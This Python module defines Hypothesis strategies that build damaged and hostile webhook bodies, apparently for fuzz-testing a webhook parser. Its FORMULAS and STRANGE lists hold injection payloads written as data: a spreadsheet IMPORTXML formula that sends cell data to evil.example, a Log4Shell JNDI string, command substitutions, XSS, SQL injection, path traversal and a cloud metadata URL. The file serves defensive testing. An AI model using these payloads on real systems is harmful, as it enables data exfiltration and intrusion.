"""Strategies for bodies that nobody means well with. Nothing in here is anybody's."""

import json
from collections.abc import Callable
from typing import Any

from hypothesis import strategies as st

from tests.made_up import SAMPLE, comment, document, milestone, task, uuid

FORMULAS = [
    '=IMPORTXML(CONCAT("https://evil.example/?", A1), "//a")',
    '=HYPERLINK("https://evil.example","Sign in")',
    "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "'=1", "\uff1d1", "|calc", "%0A=1", "{=1}",
]  # fmt: skip
STRANGE = [
    "", " ", "\n", "\r\n" * 400, "\x00", "a\x00b", "\x1b[31m", "\x7f", "\ufeff", "\ufffe", "\uffff",
    "\ud800", "\udfff\ud800", "\ud83d", "\u202eevil\u202c", "\u2066x\u2069", "e" + "\u0301" * 300,
    "👩‍👩‍👧‍👦🏳️‍🌈", "😀" * 25_000, "a" * 60_000, "😀" + "b" * 49_998, "ﷺ" * 3000, "ß", "İ", "\u017f",
    "None", "null", "NaN", "Infinity", "true", "0", "[]", "{}",
    "../../../etc/passwd", "..", ".", "/", "\\\\host\\share", "C:\\con", "a/b/../../c", "%2e%2e%2f",
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>',
    "{{7*7}}", "{site}", "{0.__class__}",
    "%s%n%x", "'; DROP TABLE job; --", "${jndi:ldap://evil.example/a}", "$(id)", "`id`",
    "javascript:alert(1)", "http://169.254.169.254/", "file:///etc/passwd", "https://[::1",
    "157802b499aa4437b250934df337766a", "{157802b4-99aa-4437-b250-934df337766a}",
    "urn:uuid:157802b4-99aa-4437-b250-934df337766a", "157802b4-99aa-4437-b250-934df337766",
    "\uff1157802b4-99aa-4437-b250-934df337766a", "1578_2b4-99aa-4437-b250-934df337766a",
    "0001-01-01T00:00:00Z", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "2026-02-30",
    "1969-12-31", "2026-03-01", "-1", "1e999", "2026-03-01T10:00:00+99:99",
    "20260301", "T", "24:00", "APPROVED",
    "__proto__", "constructor", "__class__", "brightsheet.column", "re-sign", "RE\u2011SIGN",
]  # fmt: skip
NUMBERS = [
    0, -0.0, 1, -1, 2**31, 2**63, -(2**63) - 1, 10**400, 10**4299, 1e308, -1e308, 5e-324, 1e-400,
    float("inf"), float("-inf"), float("nan"), 253402300800, -62135596801, 1.7e12,
]  # fmt: skip

TEXTS = (
    st.sampled_from(FORMULAS + STRANGE)
    | st.text(st.characters(exclude_categories=()), max_size=30)
    | st.text(max_size=200)
)
SCALARS = st.none() | st.booleans() | st.sampled_from(NUMBERS) | st.integers() | st.floats() | TEXTS
JUNK = st.recursive(
    SCALARS,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(TEXTS, inner, max_size=4),
    max_leaves=8,
)

Path = tuple[str | int, ...]


def _sample() -> dict[str, Any]:
    from sync.webhooks.literal import to_json

    tree: dict[str, Any] = json.loads(to_json(SAMPLE.decode()))
    return tree


def _rich() -> dict[str, Any]:
    files = [document(n, f"{n}.pdf") for n in range(3)]
    told = [comment("Hello", "2026-03-01T10:00:00Z"), comment("Bye", "2026-03-02T10:00:00Z")]
    person = {"first_name": "Ada", "last_name": "Made-Up", "email": "ada@@installer.example"}
    return milestone(comments=told, tasks=[task(*files), task()], assigned_to=person)


BASES: tuple[Callable[[], dict[str, Any]], ...] = (
    *(_rich, _sample, milestone) * 3,
    lambda: {"task_definition": uuid(1), "sub_tasks": [], "milestone": uuid(2)},
    lambda: {"site_id": uuid(1), "stage_name": "Sold", "previous_stage_name": "Lead"},
)


def paths(tree: object, at: Path = ()) -> list[Path]:
    inner: list[tuple[str | int, object]] = []
    if isinstance(tree, dict):
        inner = list(tree.items())
    elif isinstance(tree, list):
        inner = list(enumerate(tree))
    found = [at] if at else []
    for key, value in inner:
        found += paths(value, (*at, key))
    return found


def _texts(tree: Any, found: list[Path]) -> list[Path]:
    """Return those places where any text may stand."""

    def value(at: Path) -> object:
        inner = tree
        for key in at:
            inner = inner[key]
        return inner

    free = ("name", "description", "label", "comment", "commentor", "first_name", "last_name",
            "email", "status", "instructions", "organization_name")  # fmt: skip
    return [at for at in found if at[-1] in free and isinstance(value(at), str)]


def _replace(tree: Any, at: Path, change: Callable[[Any, Any], None]) -> None:
    for key in at[:-1]:
        tree = tree[key]
    change(tree, at[-1])


def _setting(value: object) -> Callable[[Any, Any], None]:
    return lambda box, key: box.__setitem__(key, value)


@st.composite
def spoilt(draw: st.DrawFn) -> dict[str, Any]:
    """A webhook with some values replaced, left out, put into a list or repeated."""
    tree: dict[str, Any] = draw(st.sampled_from(BASES))()
    if "milestone_definition" in tree:
        tree["site"] = uuid(draw(st.integers(1, 5)))
        tree["milestone_definition"] = uuid(draw(st.integers(1, 6)))
    for at in draw(st.lists(st.sampled_from(_texts(tree, paths(tree)) or paths(tree)), max_size=4)):
        _replace(tree, at, draw(TEXTS.map(_setting)))
    for _ in range(draw(st.sampled_from([0, 0, 0, 1, 1, 2]))):
        at = draw(st.sampled_from(paths(tree)))
        how = draw(st.integers(0, 9))
        if how < 6:
            _replace(tree, at, draw(JUNK.map(_setting)))
        elif how == 6:
            _replace(tree, at, lambda box, key: box.__delitem__(key))
        elif how == 7:
            _replace(tree, at, lambda box, key: box.__setitem__(key, [box[key]] * 3))
        elif how == 8:
            _replace(tree, at, lambda box, key: box.__setitem__(key, {"a": box[key]}))
        else:
            tree[draw(TEXTS)] = draw(JUNK)
    return tree


def _json(tree: object) -> bytes:
    return json.dumps(tree).encode()


def _utf8(tree: object) -> bytes:
    return json.dumps(tree, ensure_ascii=False).encode("utf-8", "surrogatepass")


def _literal(tree: object) -> bytes:
    return repr(tree).encode("utf-8", "surrogatepass")


def _cut(draw: st.DrawFn, sent: bytes) -> bytes:
    return sent[: draw(st.integers(0, len(sent)))]


def _spotted(draw: st.DrawFn, sent: bytes) -> bytes:
    at = draw(st.integers(0, len(sent)))
    return sent[:at] + draw(st.binary(min_size=1, max_size=6)) + sent[at:]


def _buried(draw: st.DrawFn, sent: bytes) -> bytes:
    deep = draw(st.sampled_from([30, 62, 64, 65, 500, 20_000]))
    return b"[" * deep + sent + b"]" * draw(st.sampled_from([deep, 0]))


def _twofold(_draw: st.DrawFn, sent: bytes) -> bytes:
    return sent.replace(b'": ', b'": 1, "status": "X", "site": ', 1)


def _dressed(draw: st.DrawFn, sent: bytes) -> bytes:
    fronts = [b"\xef\xbb\xbf", b"\xff\xfe", b"\n\n", b")]}',\n", b"callback("]
    return draw(st.sampled_from(fronts)) + sent


def _utf16(_draw: st.DrawFn, sent: bytes) -> bytes:
    return sent.decode("utf-8", "replace").encode("utf-16")


def _noise(draw: st.DrawFn, _sent: bytes) -> bytes:
    return draw(st.binary(max_size=200))


_DAMAGES = (_cut, _spotted, _buried, _twofold, _dressed, _utf16, _noise)


@st.composite
def bodies(draw: st.DrawFn) -> bytes:
    """A body as bytes: written as JSON or as Python does, and sometimes damaged after that."""
    tree = draw(st.one_of(*[spoilt()] * 7, JUNK))
    sent: bytes = draw(st.sampled_from([_json, _json, _utf8, _literal]))(tree)
    damage = draw(st.sampled_from([None] * 20 + [*_DAMAGES]))
    return sent if damage is None else damage(draw, sent)
